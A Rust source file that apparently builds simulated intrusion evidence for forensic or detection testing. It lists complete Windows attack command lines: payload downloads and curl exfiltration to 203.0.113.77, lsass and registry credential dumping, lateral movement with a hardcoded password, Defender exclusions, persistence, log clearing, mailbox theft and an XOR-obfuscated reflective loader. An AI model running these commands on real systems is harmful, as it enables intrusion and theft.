//! What the sealed set's spies run and leave after the page: tools loaded beside programs of well-known makers, the
//! directory, mail, and ways back in.

use super::ransom;
use crate::attack::aftermath::{Aftermath, Left, RegistryChange, Set};
use crate::attack::shell::Line;
use crate::program::POWERSHELL;
use crate::technique::Technique;
use crate::truth::Weight;

const NET: &str = "C:\\Windows\\System32\\net.exe";
const NET1: &str = "C:\\Windows\\System32\\net1.exe";
const SCHTASKS: &str = "C:\\Windows\\System32\\schtasks.exe";

/// A look around.
pub(super) const LOOK_AROUND: [Line; 7] = [
    Line::cmd(
        Technique::Discovery,
        Weight::Supporting,
        "cmd.exe /s /c \"net group \"Domain Controllers\" /domain\"",
        &[
            (NET, "net  group \"Domain Controllers\" /domain"),
            (NET1, "C:\\Windows\\system32\\net1  group \"Domain Controllers\" /domain"),
        ],
    ),
    Line::cmd(
        Technique::Discovery,
        Weight::Supporting,
        "cmd.exe /s /c \"gpresult /r /scope computer & klist sessions\"",
        &[
            ("C:\\Windows\\System32\\gpresult.exe", "gpresult  /r /scope computer"),
            ("C:\\Windows\\System32\\klist.exe", "klist  sessions"),
        ],
    ),
    Line::cmd(
        Technique::Discovery,
        Weight::Supporting,
        "cmd.exe /s /c \"wmic logicaldisk get caption,size,freespace\"",
        &[("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic  logicaldisk get caption,size,freespace")],
    ),
    Line::cmd(
        Technique::Discovery,
        Weight::Supporting,
        "cmd.exe /s /c \"csvde -f C:\\ProgramData\\Mozilla\\o.csv -r (objectClass=user) -l sAMAccountName,memberOf\"",
        &[(
            "C:\\Windows\\System32\\csvde.exe",
            "csvde  -f C:\\ProgramData\\Mozilla\\o.csv -r (objectClass=user) -l sAMAccountName,memberOf",
        )],
    ),
    Line::cmd(
        Technique::Discovery,
        Weight::Supporting,
        "cmd.exe /s /c \"findstr /s /i cpassword \\\\quarry.example.org\\sysvol\\*.xml\"",
        &[("C:\\Windows\\System32\\findstr.exe", "findstr  /s /i cpassword \\\\quarry.example.org\\sysvol\\*.xml")],
    ),
    Line::cmd(
        Technique::Discovery,
        Weight::Supporting,
        "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\nb.exe -v -s : 10.20.0.0/22\"",
        &[("C:\\ProgramData\\Mozilla\\nb.exe", "C:\\ProgramData\\Mozilla\\nb.exe  -v -s : 10.20.0.0/22")],
    ),
    Line::cmd(
        Technique::Discovery,
        Weight::Supporting,
        "cmd.exe /s /c \"tasklist /fi \"imagename eq lsass.exe\" & vaultcmd /list\"",
        &[
            ("C:\\Windows\\System32\\tasklist.exe", "tasklist  /fi \"imagename eq lsass.exe\""),
            ("C:\\Windows\\System32\\VaultCmd.exe", "vaultcmd  /list"),
        ],
    ),
];

/// How tools are brought and hidden.
pub(super) const BRING: [Line; 4] = [
    Line::must(
        Technique::Download,
        "cmd.exe /s /c \"regsvr¦32 /s /n /u /i:http://203.0.113.77/fx.sct scr¦obj.dll\"",
        &[("C:\\Windows\\System32\\regsvr32.exe", "regsvr¦32  /s /n /u /i:http://203.0.113.77/fx.sct scr¦obj.dll")],
    ),
    Line::must(
        Technique::Download,
        "cmd.exe /s /c \"(echo open 203.0.113.77& echo user fx fx& echo binary& echo mget *.dll& echo bye)>C:\\ProgramData\\Mozilla\\i.t & ftp -n -i -s:C:\\ProgramData\\Mozilla\\i.t\"",
        &[("C:\\Windows\\System32\\ftp.exe", "ftp  -n -i -s:C:\\ProgramData\\Mozilla\\i.t")],
    ),
    Line::must(
        Technique::HiddenFile,
        "cmd.exe /s /c \"type C:\\ProgramData\\Mozilla\\mozsqlite.dll > C:\\ProgramData\\Mozilla\\profiles.ini:sig\"",
        &[],
    ),
    Line {
        technique: Technique::DefenceOff,
        weight: Weight::Must,
        shell: POWERSHELL,
        command: "powershell.exe -c \"Set-Mp¦Preference -ThreatIDDefaultAction_Ids 2147735503 -ThreatIDDefaultAction_Actions Allow; Add-Mp¦Preference -Exclusion¦Path C:\\ProgramData\\Mozilla\"",
        programs: &[],
    },
];

/// How credentials are taken.
pub(super) const TAKE: [Line; 4] = [
    Line::must(
        Technique::CredentialDump,
        "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\create¦dump.exe -u -f C:\\ProgramData\\Mozilla\\cr.mdmp 648\"",
        &[(
            "C:\\ProgramData\\Mozilla\\createdump.exe",
            "C:\\ProgramData\\Mozilla\\create¦dump.exe  -u -f C:\\ProgramData\\Mozilla\\cr.mdmp 648",
        )],
    ),
    Line::must(
        Technique::CredentialDump,
        "cmd.exe /s /c \"rdr¦leakdiag.exe /p 648 /o C:\\ProgramData\\Mozilla /full¦memdmp /wait 1\"",
        &[(
            "C:\\Windows\\System32\\rdrleakdiag.exe",
            "rdr¦leakdiag.exe  /p 648 /o C:\\ProgramData\\Mozilla /full¦memdmp /wait 1",
        )],
    ),
    Line::must(
        Technique::CredentialDump,
        "cmd.exe /s /c \"wmic shadow¦copy call create Volume='C:\\' & mklink /d C:\\ProgramData\\Mozilla\\v \\\\?\\GLOBAL¦ROOT\\Device\\HarddiskVolumeShadow¦Copy7\\ & xcopy /y C:\\ProgramData\\Mozilla\\v\\Windows\\System32\\config\\SECURITY C:\\ProgramData\\Mozilla\\\"",
        &[
            ("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic  shadow¦copy call create Volume='C:\\'"),
            (
                "C:\\Windows\\System32\\xcopy.exe",
                "xcopy  /y C:\\ProgramData\\Mozilla\\v\\Windows\\System32\\config\\SECURITY C:\\ProgramData\\Mozilla\\",
            ),
        ],
    ),
    Line::must(
        Technique::CredentialDump,
        "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\la¦zagne.exe all -oN -quiet\"",
        &[("C:\\ProgramData\\Mozilla\\lazagne.exe", "C:\\ProgramData\\Mozilla\\la¦zagne.exe  all -oN -quiet")],
    ),
];

/// Steps to the servers beside, and ways through.
pub(super) const GO_ON: [Line; 5] = [
    Line::must(
        Technique::LateralMove,
        "cmd.exe /s /c \"winrs -r:QRY-FS01 -u:QUARRY\\svc-sccm -p:Kestrel#77 \"cmd /c C:\\Windows\\Temp\\fx\\pingsender.exe\"\"",
        &[(
            "C:\\Windows\\System32\\winrs.exe",
            "winrs  -r:QRY-FS01 -u:QUARRY\\svc-sccm -p:Kestrel#77 \"cmd /c C:\\Windows\\Temp\\fx\\pingsender.exe\"",
        )],
    ),
    Line::must(
        Technique::LateralMove,
        "cmd.exe /s /c \"sch¦tasks /create /s QRY-DC02 /u QUARRY\\svc-sccm /p Kestrel#77 /ru SYSTEM /sc once /st 03:10 /tn FxPing /tr C:\\Windows\\Temp\\fx\\pingsender.exe\"",
        &[(
            SCHTASKS,
            "sch¦tasks  /create /s QRY-DC02 /u QUARRY\\svc-sccm /p Kestrel#77 /ru SYSTEM /sc once /st 03:10 /tn FxPing /tr C:\\Windows\\Temp\\fx\\pingsender.exe",
        )],
    ),
    Line::must(
        Technique::Tunnel,
        "cmd.exe /s /c \"netsh interface port¦proxy add v4tov4 listenport=8531 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.2.10\"",
        &[(
            "C:\\Windows\\System32\\netsh.exe",
            "netsh  interface port¦proxy add v4tov4 listenport=8531 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.2.10",
        )],
    ),
    Line::must(
        Technique::Tunnel,
        "cmd.exe /s /c \"start /b C:\\ProgramData\\Mozilla\\updater.exe -c C:\\ProgramData\\Mozilla\\updater.ini\"",
        &[(
            "C:\\ProgramData\\Mozilla\\updater.exe",
            "C:\\ProgramData\\Mozilla\\updater.exe  -c C:\\ProgramData\\Mozilla\\updater.ini",
        )],
    ),
    Line::must(
        Technique::AuditPolicy,
        "cmd.exe /s /c \"audit¦pol /set /category:\"Logon/Logoff\" /success:dis¦able /failure:dis¦able\"",
        &[(
            "C:\\Windows\\System32\\auditpol.exe",
            "audit¦pol  /set /category:\"Logon/Logoff\" /success:dis¦able /failure:dis¦able",
        )],
    ),
];

/// How what is to be carried off is packed and sent.
pub(super) const PACK: [Line; 3] = [
    Line::must(
        Technique::StagedArchive,
        "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\igfxtray.exe a -ep1 -k -inul -hpm0z!la -v300m -x*.exe C:\\ProgramData\\Mozilla\\thumbs.dat @C:\\ProgramData\\Mozilla\\l.txt\"",
        &[(
            "C:\\ProgramData\\Mozilla\\igfxtray.exe",
            "C:\\ProgramData\\Mozilla\\igfxtray.exe  a -ep1 -k -inul -hpm0z!la -v300m -x*.exe C:\\ProgramData\\Mozilla\\thumbs.dat @C:\\ProgramData\\Mozilla\\l.txt",
        )],
    ),
    Line {
        technique: Technique::StagedArchive,
        weight: Weight::Must,
        shell: POWERSHELL,
        command: "powershell.exe -c \"Add-Type -A System.IO.Compression.FileSystem; [IO.Compression.Zip¦File]::CreateFrom¦Directory('C:\\ProgramData\\Mozilla\\out','DIR\\15.1.2044\\themes\\resources\\lgnexlogo.png')\"",
        programs: &[],
    },
    Line::must(
        Technique::WebExfiltration,
        "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\curl.exe -s -T C:\\ProgramData\\Mozilla\\thumbs.part1.dat ftp://fx:fx@203.0.113.77/q/\"",
        &[(
            "C:\\ProgramData\\Mozilla\\curl.exe",
            "C:\\ProgramData\\Mozilla\\curl.exe  -s -T C:\\ProgramData\\Mozilla\\thumbs.part1.dat ftp://fx:fx@203.0.113.77/q/",
        )],
    ),
];

/// How they come back: a service that was there is bent, a job waits, an account is woken, a module is loaded.
pub(super) const STAY: [Line; 5] = [
    Line::must(
        Technique::NewService,
        "cmd.exe /s /c \"sc con¦fig AppMgmt binPath= \"C:\\ProgramData\\Mozilla\\pingsender.exe --svc\" start= auto\"",
        &[(
            "C:\\Windows\\System32\\sc.exe",
            "sc  con¦fig AppMgmt binPath= \"C:\\ProgramData\\Mozilla\\pingsender.exe --svc\" start= auto",
        )],
    ),
    Line::must(
        Technique::Download,
        "cmd.exe /s /c \"bits¦admin /create fxsync & bits¦admin /addfile fxsync http://203.0.113.77/fx.cab C:\\ProgramData\\Mozilla\\fx.cab & bits¦admin /SetNotify¦CmdLine fxsync C:\\ProgramData\\Mozilla\\pingsender.exe NUL & bits¦admin /resume fxsync\"",
        &[
            ("C:\\Windows\\System32\\bitsadmin.exe", "bits¦admin  /create fxsync"),
            (
                "C:\\Windows\\System32\\bitsadmin.exe",
                "bits¦admin  /addfile fxsync http://203.0.113.77/fx.cab C:\\ProgramData\\Mozilla\\fx.cab",
            ),
            (
                "C:\\Windows\\System32\\bitsadmin.exe",
                "bits¦admin  /SetNotify¦CmdLine fxsync C:\\ProgramData\\Mozilla\\pingsender.exe NUL",
            ),
        ],
    ),
    Line::must(
        Technique::NewAccount,
        "cmd.exe /s /c \"net user DefaultAccount Fx_2021¦!ping /active:yes\"",
        &[
            (NET, "net  user DefaultAccount Fx_2021¦!ping /active:yes"),
            (NET1, "C:\\Windows\\system32\\net1  user DefaultAccount Fx_2021¦!ping /active:yes"),
        ],
    ),
    Line::must(
        Technique::GroupChange,
        "cmd.exe /s /c \"net localgroup Administrators DefaultAccount /add\"",
        &[
            (NET, "net  localgroup Administrators DefaultAccount /add"),
            (NET1, "C:\\Windows\\system32\\net1  localgroup Administrators DefaultAccount /add"),
        ],
    ),
    Line {
        technique: Technique::ServerModule,
        weight: Weight::Must,
        shell: POWERSHELL,
        command: "powershell.exe -c \"Import-Module WebAdministration; New-WebGlobal¦Module -Name UriCacheExtModule -Image C:\\Windows\\System32\\inetsrv\\uriext.dll\"",
        programs: &[],
    },
];

/// How the scheduler's own record goes.
pub(super) const COVER: Line = Line {
    technique: Technique::LogClearing,
    weight: Weight::Must,
    shell: POWERSHELL,
    command: "powershell.exe -c \"[Diagnostics.Eventing.Reader.EventLog¦Session]::GlobalSession.Clear¦Log('Microsoft-Windows-TaskScheduler/Operational')\"",
    programs: &[],
};

/// The settings of the tool that carries connections.
pub(super) const SETTINGS: (&str, &str) = (
    "C:\\ProgramData\\Mozilla\\updater.ini",
    "[common]\r\nserver_addr = 203.0.113.77\r\nserver_port = 443\r\ntls_enable = true\r\n\r\n[qry_r]\r\ntype = tcp\r\nlocal_ip = 127.0.0.1\r\nlocal_port = 3389\r\nremote_port = 41389\r\n",
);

/// The script that is run whenever somebody signs in.
pub(super) const AT_START: (&str, &str) = (
    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\ping.vbs",
    "CreateObject(\"WScr¦ipt.Sh¦ell\").R¦un \"C:\\ProgramData\\Mozilla\\pingsender.exe --ui\", 0\r\n",
);

/// What the registry is made to do.
const REGISTRY: [RegistryChange; 5] = [
    RegistryChange {
        technique: Technique::CredentialDump,
        hive: "SYSTEM",
        key: "ControlSet001\\Control\\Lsa",
        name: "Notification Packages",
        value: Set::List(&["scecli", "mozpol"]),
    },
    RegistryChange {
        technique: Technique::CredentialDump,
        hive: "SOFTWARE",
        key: "Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe",
        name: "LocalDumpFolder",
        value: Set::Text("C:\\ProgramData\\Mozilla"),
    },
    RegistryChange {
        technique: Technique::RegistryChange,
        hive: "SOFTWARE",
        key: "Microsoft\\Windows NT\\CurrentVersion\\Windows",
        name: "AppInit_DLLs",
        value: Set::Text("C:\\ProgramData\\Mozilla\\mozsqlite.dll"),
    },
    RegistryChange {
        technique: Technique::RegistryChange,
        hive: "SYSTEM",
        key: "ControlSet001\\Control\\Print\\Monitors\\Fax Tray",
        name: "Driver",
        value: Set::Text("C:\\ProgramData\\Mozilla\\mozprt.dll"),
    },
    RegistryChange {
        technique: Technique::Tunnel,
        hive: "SYSTEM",
        key: "ControlSet001\\Services\\PortProxy\\v4tov4\\tcp",
        name: "0.0.0.0/8531",
        value: Set::Text("10.20.2.10/3389"),
    },
];

pub(super) const AFTERMATH: Aftermath = Aftermath {
    // Its processes are lines of shells: see [`TAKE`] and those around it.
    deeds: &[],
    left: &[
        Left {
            technique: Technique::CredentialDump,
            path: "C:\\ProgramData\\Mozilla\\cr.mdmp",
            head: b"MDMP\x93\xa7\xc1\xb0\x0c\0\0\0\x20\0\0\0",
            size: 55_296,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "C:\\ProgramData\\Mozilla\\thumbs.part1.dat",
            head: b"Rar!\x1a\x07\x01\0\x72\x0b\0\0\x01\x0f",
            size: 27_136,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "F:\\Microsoft\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\15.1.2044\\themes\\resources\\lgnexlogo.png",
            head: b"PK\x03\x04\x14\0\0\0\x08\0\x60\x1b\x6c\x52",
            size: 19_456,
        },
    ],
    tasks: &[(
        "Mozilla\\Firefox Default Browser Agent 7C1A40",
        "C:\\ProgramData\\Mozilla\\pingsender.exe",
        "--agent",
        75,
    )],
    services: &[("MozillaTelemetrySvc", "C:\\ProgramData\\Mozilla\\pingsender.exe --svc")],
    registry: &REGISTRY,
    account: "DefaultAccount",
    scripts: &[
        (
            Technique::DirectoryDump,
            "Import-Module C:\\ProgramData\\Mozilla\\ds\\DS¦Internals.psd1; Get-ADRepl¦Account -All -Server QRY-DC02 -NamingContext 'DC=quarry,DC=example,DC=org' | Format-Custom -View HashcatNT | Out-File C:\\ProgramData\\Mozilla\\h.txt",
        ),
        (
            Technique::MailReading,
            "Add-Type -Path 'F:\\Microsoft\\Exchange\\Bin\\Microsoft.Exchange.WebServices.dll'; $s = New-Object Microsoft.Exchange.WebServices.Data.Exchange¦Service; $s.UseDefaultCredentials = $true; foreach ($m in 'boardroom','a.sorensen') { $s.Impersonated¦UserId = New-Object Microsoft.Exchange.WebServices.Data.Impersonated¦UserId('SmtpAddress', $m + '@quarry.example.org'); $s.FindItems('Inbox', (New-Object Microsoft.Exchange.WebServices.Data.ItemView(500))) | % { $_.Load(); [IO.File]::WriteAllBytes('C:\\ProgramData\\Mozilla\\out\\' + $_.Id.ChangeKey + '.eml', $_.MimeContent.Content) } }",
        ),
        (
            Technique::ScriptRun,
            "$k = [Convert]::From¦Base64String((Get-Content C:\\ProgramData\\Mozilla\\prefs.js -Raw).Substring(9)); for ($i = 0; $i -lt $k.Length; $i++) { $k[$i] = $k[$i] -bxor 0x37 }; [AppDomain]::CurrentDomain.Lo¦ad($k).EntryPoint.Inv¦oke($null, @(,[string[]]@()))",
        ),
    ],
    management: &[
        (
            Technique::MailboxAccess,
            "Add-ADPermission",
            "-Identity \"MBX-DB04\" -User \"QUARRY\\svc-sccm\" -ExtendedRights \"Receive-As\"",
        ),
        (
            Technique::MailForwarding,
            "New-JournalRule",
            "-Name \"Retention 7y\" -JournalEmailAddress \"vault@example.net\" -Scope \"Global\" -Recipient \"boardroom@quarry.example.org\" -Enabled \"True\"",
        ),
        (Technique::AuditPolicy, "Set-AdminAuditLogConfig", "-AdminAuditLog¦Enabled \"False\""),
    ],
    fetched: ("/owa/auth/15.1.2044/themes/resources/lgnexlogo.png", Some("Owa")),
    module: ("UriCacheExtModule", "C:\\Windows\\System32\\inetsrv\\uriext.dll"),
    typed: &[
        (
            Technique::LateralMove,
            "Invoke-Com¦mand -ComputerName QRY-FS01 -FilePath C:\\ProgramData\\Mozilla\\fx.ps1 -Credential QUARRY\\svc-sccm",
        ),
        (Technique::DefenceOff, "Set-Mp¦Preference -MAPSReporting 0 -Exclusion¦Extension .dat,.mdmp -Force"),
        (Technique::LogDeletion, "Get-ChildItem E:\\weblogs\\W3SVC1\\u_ex21030[9].log | % { Set-Content $_ $null }"),
    ],
    hosts: &["127.0.0.1 ctldl.windowsupdate.com", "127.0.0.1 ussus1eastprod.blob.core.windows.net"],
    exclusion: "C:\\ProgramData\\Mozilla",
    threat: "Back¦door:MSIL/Chopper.F!dha",
    ransom: ransom::RANSOM,
};
